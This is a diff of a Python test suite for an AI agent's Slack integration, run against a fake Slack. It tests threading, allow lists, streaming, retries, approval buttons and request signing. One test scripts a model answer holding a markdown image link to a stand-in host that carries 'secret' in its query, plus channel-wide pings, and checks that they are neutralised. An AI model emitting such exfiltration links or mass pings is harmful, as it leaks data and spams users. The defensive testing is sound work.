@@ -1,16 +1,22 @@
 """The Slack app against a fake Slack, over real HTTP and websockets."""
 
+import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
 
 import anyio
+import httpx2
 import pytest
 from mcp.server.mcpserver import MCPServer
 
+from autonomy.errors import ConfigError
+from autonomy.llm.messages import AssistantMessage, UserMessage
+from autonomy.llm.model import ModelRequest
 from autonomy.llm.scripted import calling
+from metrics import events
 from tests.requirements import requirement
-from tests.support.house import READ
+from tests.support.house import OUTWARD, READ
 from tests.support.slack import Slack
 from tests.support.slack_house import slack_house
 
@@ -18,30 +24,391 @@ from tests.support.slack_house import slack_house
 @pytest.fixture
 async def slack() -> AsyncIterator[Slack]:
     async with Slack() as fake:
-        yield fake
+        with anyio.fail_after(20):
+            yield fake
 
 
-def weather() -> MCPServer[Any]:
+def weather(gate: anyio.Event | None = None) -> MCPServer[Any]:
     server: MCPServer[Any] = MCPServer("weather")
 
     @server.tool(annotations=READ)
-    def get_weather(location: str) -> str:
+    async def get_weather(location: str) -> str:
         """The weather of a place."""
-        return f"{location}: 晴れ"
+        if gate is not None:
+            await gate.wait()
+        return f"{location}: 晴れ <!channel>"
 
     return server
+
+
+def board(posted: list[str]) -> MCPServer[Any]:
+    server: MCPServer[Any] = MCPServer("board")
+
+    @server.tool(annotations=OUTWARD)
+    def post(text: str) -> str:
+        """Post to the board."""
+        posted.append(text)
+        return "posted"
+
+    return server
+
+
+ASK = calling(("weather_get_weather", {"location": "東京"}))
 
 
 @requirement("C4", "C6")
 async def test_a_mention_is_answered_once_in_its_thread_although_it_comes_as_two_events(slack: Slack, tmp_path: Path) -> None:
     haruka, general = slack.add_user("haruka"), slack.add_channel("general")
-    script = [calling(("weather_get_weather", {"location": "東京"})), "東京は晴れです。"]
-    with anyio.fail_after(10):
-        async with slack_house(tmp_path, slack, weather(), script=script) as here:
-            ts = await slack.mention(general, haruka, "東京の天気を教えて", twice=True)
-            answer = await slack.answer_in(general, ts)
-            await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
+    async with slack_house(tmp_path, slack, weather(), script=[ASK, "東京は晴れです。"]) as here:
+        ts = await slack.mention(general, haruka, "東京の天気を教えて", twice=True)
+        answer = await slack.answer_in(general, ts)
+        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
     assert slack.words(answer) == "東京は晴れです。"
     assert len(slack.thread(general, ts)) == 1
     assert len(here.house.model.requests) == 2
     assert [status[1:] for status in slack.statuses] == [(general, ts, "考えています…")]
+
+
+@requirement("C6")
+async def test_a_thread_is_carried_on_without_a_mention_and_remembered(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    async with slack_house(tmp_path, slack, script=["はい。", "東京のことです。"]) as here:
+        ts = await slack.mention(general, haruka, "やあ")
+        await slack.answer_in(general, ts)
+        await slack.message(general, haruka, "どこのこと？", thread_ts=ts)
+        await slack.until(lambda: len(slack.answered(general, ts)) == 2)
+    assert here.house.model.requests[1].messages[1:3] == (UserMessage(text="やあ"), AssistantMessage(text="はい。"))
+
+
+async def test_what_is_said_to_others_is_left_alone(slack: Slack, tmp_path: Path) -> None:
+    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
+    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
+        ts = await slack.mention(general, haruka, "やあ")
+        await slack.answer_in(general, ts)
+        await slack.message(general, haruka, "おはよう")
+        await slack.message(general, haruka, f"<@{kenta}> 見た？", thread_ts=ts)
+        await slack.message(general, slack.BOT_USER, "はい。", thread_ts=ts, bot_id=slack.BOT_ID)
+        await slack.message(general, "UBOT2", f"<@{slack.BOT_USER}> こんにちは", bot_id="B0OTHER")
+        await slack.event({"type": "message", "subtype": "message_changed", "channel": general, "ts": "1.0"})
+        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
+    assert len(here.house.model.requests) == 1
+    assert len(slack.sent()) == 1
+
+
+@requirement("C6")
+async def test_a_direct_message_needs_no_mention(slack: Slack, tmp_path: Path) -> None:
+    haruka = slack.add_user("haruka")
+    direct = slack.open_dm(haruka)
+    async with slack_house(tmp_path, slack, script=["はい。"]):
+        ts = await slack.message(direct, haruka, "やあ")
+        assert slack.words(await slack.answer_in(direct, ts)) == "はい。"
+
+
+@pytest.mark.parametrize("lists", [{"users": ("U9",)}, {"channels": ("C9",)}, {"teams": ()}])
+@requirement("C6")
+async def test_who_or_where_is_not_on_the_lists_is_not_worked_for(slack: Slack, tmp_path: Path, lists: dict[str, Any]) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    guest = {"user_team": "T9GUEST"} if "teams" in lists else {}
+    async with slack_house(tmp_path, slack, **lists) as here:
+        said = {"user": haruka, "text": f"<@{slack.BOT_USER}> やあ", "ts": slack.new_ts(), "channel": general}
+        await slack.event({**said, "type": "app_mention", "team": slack.TEAM_ID, **guest}, twice=True)
+        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
+        entry = await here.app._inbox.get(f"slack-{general}-{said['ts']}")
+    assert entry is not None
+    assert entry.state == "refused"
+    assert (here.house.model.requests, slack.sent(), slack.statuses) == ([], [], [])
+
+
+@requirement("C6")
+async def test_progress_is_a_stream_of_task_cards_that_ends_with_the_answer(slack: Slack, tmp_path: Path) -> None:
+    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()
+    async with slack_house(tmp_path, slack, weather(gate), script=[ASK, "東京は晴れです。"]):
+        ts = await slack.mention(general, haruka, "東京の天気を教えて")
+        (growing,) = await slack.until(lambda: slack.thread(general, ts))
+        assert [task["status"] for task in growing["tasks"].values()] == ["in_progress"]
+        gate.set()
+        answer = await slack.answer_in(general, ts)
+    assert answer["ts"] == growing["ts"]
+    assert [(task["title"], task["status"]) for task in answer["tasks"].values()] == [("weather_get_weather", "complete")]
+    assert slack.words(answer) == "東京は晴れです。"
+    assert slack.streaming == set()
+
+
+@requirement("C6")
+@pytest.mark.parametrize("trouble", ["expired", "no streams", "start lost", "start lost before", "stop lost", "stop lost before"])
+async def test_whatever_becomes_of_the_stream_the_answer_stands_there_once(slack: Slack, tmp_path: Path, trouble: str) -> None:
+    haruka, general, gate = slack.add_user("haruka"), slack.add_channel("general"), anyio.Event()
+    match trouble:
+        case "no streams":
+            slack.refuse("chat.startStream", "unknown_method", times=5)
+        case "start lost" | "start lost before":
+            slack.lose_answer("chat.startStream", carried_out=trouble == "start lost")
+        case "stop lost" | "stop lost before":
+            slack.lose_answer("chat.stopStream", carried_out=trouble == "stop lost")
+    async with slack_house(tmp_path, slack, weather(gate), script=[ASK, "東京は晴れです。"]):
+        ts = await slack.mention(general, haruka, "東京の天気を教えて")
+        await slack.until(lambda: slack.thread(general, ts))
+        if trouble == "expired":
+            slack.expire_streams()
+        gate.set()
+        answer = await slack.answer_in(general, ts)
+        await slack.until(lambda: not slack.streaming)
+    assert slack.words(answer).endswith("東京は晴れです。")
+    assert slack.words(answer).count("東京は晴れです。") == 1
+    assert len(slack.thread(general, ts)) == 1
+
+
+@requirement("C6")
+@pytest.mark.parametrize("carried_out", [True, False])
+async def test_a_post_whose_answer_is_lost_is_looked_up_before_it_is_sent_again(
+    slack: Slack, tmp_path: Path, carried_out: bool
+) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    slack.lose_answer("chat.postMessage", carried_out=carried_out)
+    async with slack_house(tmp_path, slack, script=["はい。"]):
+        ts = await slack.mention(general, haruka, "やあ")
+        await slack.answer_in(general, ts)
+    assert len(slack.thread(general, ts)) == 1
+    assert len([call for call in slack.calls if call.method == "chat.postMessage"]) == (1 if carried_out else 2)
+
+
+@requirement("C6")
+async def test_when_nobody_can_tell_whether_it_was_posted_the_request_shows_it(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    slack.lose_answer("chat.postMessage")
+    slack.refuse("conversations.replies", "missing_scope", times=5)
+    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
+        ts = await slack.mention(general, haruka, "やあ")
+        (said,) = slack.messages(general)[:1]
+        await slack.until(lambda: said.get("reactions"))
+        entry = await here.app._inbox.get(f"slack-{general}-{ts}")
+    assert entry is not None
+    assert entry.state == "unknown"
+    assert [reaction["name"] for reaction in said["reactions"]] == ["warning"]
+    assert len(slack.thread(general, ts)) == 1
+
+
+async def test_a_rate_limit_is_waited_out(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    slack.rate_limit("chat.postMessage", 10)
+    async with slack_house(tmp_path, slack, script=["はい。"]):
+        ts = await slack.mention(general, haruka, "やあ")
+        assert slack.words(await slack.answer_in(general, ts)) == "はい。"
+    first, second = [call.at for call in slack.calls if call.method == "chat.postMessage"]
+    assert second - first >= 10 / 20
+
+
+async def test_a_sign_of_life_is_a_reaction_where_there_is_no_status(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    slack.refuse("assistant.threads.setStatus", "unknown_method")
+    async with slack_house(tmp_path, slack, script=["はい。"]):
+        await slack.mention(general, haruka, "やあ")
+        (said,) = slack.messages(general)[:1]
+        await slack.until(lambda: said.get("reactions"))
+    assert said["reactions"][0]["name"] == "eyes"
+
+
+@requirement("S3", "C6")
+async def test_nothing_that_a_tool_or_a_model_says_mentions_pings_or_is_previewed(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    evil = "<!channel> <@U1> ![x](https://evil.test/?q=secret) https://evil.test"
+    async with slack_house(tmp_path, slack, script=[evil]):
+        ts = await slack.mention(general, haruka, "やあ")
+        answer = await slack.answer_in(general, ts)
+    (sent,) = [call for call in slack.calls if call.method == "chat.postMessage"]
+    said = json.dumps([answer["text"], answer["blocks"]])
+    assert "<!" not in said
+    assert "<@" not in said
+    assert "![" not in said
+    flags = [sent.get(name) for name in ("unfurl_links", "unfurl_media", "link_names", "parse")]
+    assert flags == [False, False, False, "none"]
+
+
+@requirement("C6")
+async def test_a_long_answer_is_split_at_slacks_limits_and_complete(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    text = "\n".join(f"{number}行目 & つづき" for number in range(2000))
+    async with slack_house(tmp_path, slack, script=[text]):
+        ts = await slack.mention(general, haruka, "全部教えて")
+        await slack.answer_in(general, ts)
+    parts = [slack.words(part) for part in slack.thread(general, ts)]
+    assert all(len(part) <= 12_000 for part in parts)
+    assert "\n".join(parts) == text.replace("&", "&amp;")
+    assert len(slack.answered(general, ts)) == 1
+
+
+@requirement("C6", "S4")
+async def test_a_write_is_asked_for_with_buttons_and_done_when_the_one_who_asked_approves(slack: Slack, tmp_path: Path) -> None:
+    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
+    posted: list[str] = []
+    script = [calling(("board_post", {"text": "<!here> やあ"})), "書き込みの操作は終わりです。"]
+    async with slack_house(tmp_path, slack, board(posted), script=script) as here:
+        ts = await slack.mention(general, haruka, "掲示板に書いて")
+        question = await slack.until(
+            lambda: next(
+                (one for one in slack.thread(general, ts) if "jiritsu_approve" in json.dumps(one.get("blocks", ""))), None
+            )
+        )
+        assert "text: <!here> やあ" in slack.words(question)  # plain text: shown, not acted upon
+        assert {block["text"]["type"] for block in question["blocks"] if block["type"] == "section"} == {"plain_text"}
+        await slack.press(general, question, "jiritsu_approve", kenta)
+        await slack.until(lambda: slack.whispers)
+        assert posted == []
+        await slack.press(general, question, "jiritsu_approve", haruka, value=f"{here_value(question)}0")
+        await slack.until(lambda: len(slack.whispers) == 2)
+        assert posted == []
+        await slack.press(general, question, "jiritsu_approve", haruka)
+        await slack.answer_in(general, ts)
+        await slack.until(lambda: "承認しました" in slack.words(question))
+        await slack.press(general, question, "jiritsu_deny", haruka, value=here_value(question) or "x")
+    assert posted == ["<!here> やあ"]
+    (answered,) = here.house.written.of(events.ApprovalAnswered)
+    assert (answered.answer, answered.by) == ("granted", haruka)
+    assert [block for block in question["blocks"] if block["type"] == "actions"] == []
+
+
+def here_value(question: dict[str, Any]) -> str:
+    """What the first button of a question carries."""
+    values = [one["value"] for block in question.get("blocks", []) for one in block.get("elements", []) if "value" in one]
+    return str(values[0]) if values else ""
+
+
+@requirement("S4")
+async def test_only_approvers_may_approve_where_the_operator_names_them(slack: Slack, tmp_path: Path) -> None:
+    haruka, boss, general = slack.add_user("haruka"), slack.add_user("boss"), slack.add_channel("general")
+    posted: list[str] = []
+    script = [calling(("board_post", {"text": "やあ"})), "やめておきます。"]
+    async with slack_house(tmp_path, slack, board(posted), script=script, approvers=(boss,)):
+        ts = await slack.mention(general, haruka, "掲示板に書いて")
+        question = await slack.until(lambda: next((one for one in slack.thread(general, ts) if here_value(one)), None))
+        await slack.press(general, question, "jiritsu_approve", haruka)
+        await slack.until(lambda: slack.whispers)
+        await slack.press(general, question, "jiritsu_approve", boss, team="T9GUEST")
+        await slack.until(lambda: len(slack.whispers) == 2)
+        await slack.press(general, question, "jiritsu_deny", boss)
+        await slack.answer_in(general, ts)
+    assert posted == []
+
+
+@requirement("C6")
+async def test_stop_ends_the_run_and_says_so(slack: Slack, tmp_path: Path) -> None:
+    haruka, kenta, general = slack.add_user("haruka"), slack.add_user("kenta"), slack.add_channel("general")
+    async with slack_house(tmp_path, slack, weather(anyio.Event()), script=[ASK]) as here:
+        ts = await slack.mention(general, haruka, "東京の天気を教えて")
+        await slack.until(lambda: slack.thread(general, ts))
+        stopped = await slack.stop_agent(general, ts, kenta)
+        await slack.until(lambda: stopped.acknowledged_at)
+        assert not slack.answered(general, ts)
+        await slack.stop_agent(general, ts, haruka)
+        answer = await slack.answer_in(general, ts)
+    assert slack.words(answer) == "中止しました。"
+    assert [event.by for event in here.house.written.of(events.Intervention)] == [haruka]
+
+
+async def test_thumbs_become_an_event_of_the_run(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
+        ts = await slack.mention(general, haruka, "やあ")
+        answer = await slack.answer_in(general, ts)
+        (buttons,) = [block["elements"][0] for block in answer["blocks"] if block["type"] == "context_actions"]
+        await slack.press(general, answer, "jiritsu_feedback", haruka, value=buttons["negative_button"]["value"])
+        await slack.until(lambda: slack.whispers)
+    (told,) = here.house.written.of(events.FeedbackGiven)
+    assert (told.run_id, told.by, told.good) == (f"slack-{general}-{ts}", haruka, False)
+
+
+async def test_whoever_opens_the_conversation_is_given_suggestions(slack: Slack, tmp_path: Path) -> None:
+    haruka = slack.add_user("haruka")
+    async with slack_house(tmp_path, slack):
+        home = {"type": "app_home_opened", "user": haruka, "channel": slack.open_dm(haruka)}
+        await slack.event({**home, "tab": "home"})
+        await slack.event({**home, "tab": "messages"})
+        await slack.until(lambda: slack.prompts)
+    assert len(slack.prompts) == 1
+    assert slack.prompts[0]["prompts"][0]["message"] == "東京の今日の天気を教えて"
+
+
+@requirement("C6")
+@pytest.mark.parametrize("politely", [True, False])
+async def test_what_was_said_while_the_socket_was_down_is_answered_after_it_is_back(
+    slack: Slack, tmp_path: Path, politely: bool
+) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    async with slack_house(tmp_path, slack, script=["はい。"]):
+        await slack.drop_sockets(politely=politely)
+        ts = await slack.mention(general, haruka, "やあ")
+        await slack.answer_in(general, ts)
+    assert slack.connections >= 2
+    assert len(slack.thread(general, ts)) == 1
+
+
+@requirement("C6")
+async def test_what_a_process_left_unanswered_the_next_one_answers_once(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    slack.refuse("chat.postMessage", "fatal_error", times=3)
+    async with slack_house(tmp_path, slack, script=["はい。"]) as here:
+        ts = await slack.mention(general, haruka, "やあ")
+        said = slack.messages(general)[0]
+        await slack.until(lambda: any(one["name"] == "warning" for one in said.get("reactions", [])))
+        await here.app._inbox.move(f"slack-{general}-{ts}", "working")  # as if the process had died on the way
+    slack._faults.clear()
+    async with slack_house(tmp_path, slack) as again:
+        answer = await slack.answer_in(general, ts)
+    assert slack.words(answer) == "はい。"  # the run had ended: its result is on record, no model is asked again
+    assert again.house.model.requests == []
+
+
+@requirement("C6")
+async def test_over_http_only_what_slack_signed_is_taken(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    said = {
+        "type": "app_mention",
+        "user": haruka,
+        "text": "<@U0BOT> やあ",
+        "ts": slack.say(general, haruka, "やあ"),
+        "channel": general,
+    }
+    body = json.dumps({"type": "event_callback", "team_id": slack.TEAM_ID, "event_id": "Ev1", "event": said})
+    async with slack_house(tmp_path, slack, script=["はい。"], listen=False) as here:
+        transport = httpx2.ASGITransport(here.app.web_app())
+        async with httpx2.AsyncClient(transport=transport, base_url="http://us.test") as client:
+            headers = [slack.signed(body, secret="guessed"), slack.signed(body, at=slack.clock() - 600), slack.signed(body)]  # noqa: S106
+            codes = [(await client.post("/slack/events", content=body, headers=one)).status_code for one in headers]
+            again = {**slack.signed(body), "X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"}
+            codes.append((await client.post("/slack/events", content=body, headers=again)).status_code)
+        await slack.answer_in(general, said["ts"])
+    assert codes == [401, 401, 200, 200]
+    assert len(slack.thread(general, said["ts"])) == 1
+
+
+async def test_a_token_that_slack_does_not_take_is_named(slack: Slack, tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match=r"SLACK_BOT_TOKEN.*invalid_auth"):
+        async with slack_house(tmp_path, slack, bot_token="xoxb-old"):  # noqa: S106
+            pass
+
+
+@requirement("C6")
+async def test_requests_of_one_thread_are_answered_in_order_and_know_each_other(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+
+    def count(request: ModelRequest) -> str:
+        return f"{len(request.messages) - 1}個"
+
+    async with slack_house(tmp_path, slack, script=count):
+        ts = await slack.mention(general, haruka, "一")
+        await slack.message(general, haruka, f"<@{slack.BOT_USER}> 二", thread_ts=ts)
+        await slack.message(general, haruka, f"<@{slack.BOT_USER}> 三", thread_ts=ts)
+        await slack.until(lambda: len(slack.answered(general, ts)) == 3)
+    assert [slack.words(one) for one in slack.thread(general, ts)] == ["1個", "3個", "5個"]
+
+
+async def test_two_bots_that_answer_each_other_come_to_an_end(slack: Slack, tmp_path: Path) -> None:
+    haruka, general = slack.add_user("haruka"), slack.add_channel("general")
+    async with slack_house(tmp_path, slack, script=lambda _: "はい。", runs_per_thread=3, bots=("B0OTHER",)) as here:
+        ts = await slack.mention(general, haruka, "やあ")
+        await slack.answer_in(general, ts)
+        for _ in range(5):
+            await slack.message(general, "U0OTHER", "はい？", thread_ts=ts, bot_id="B0OTHER")
+        await slack.until(lambda: all(one.acknowledged_at for one in slack.envelopes))
+        await slack.until(lambda: len(slack.answered(general, ts)) == 3)
+    assert len(here.house.model.requests) == 3
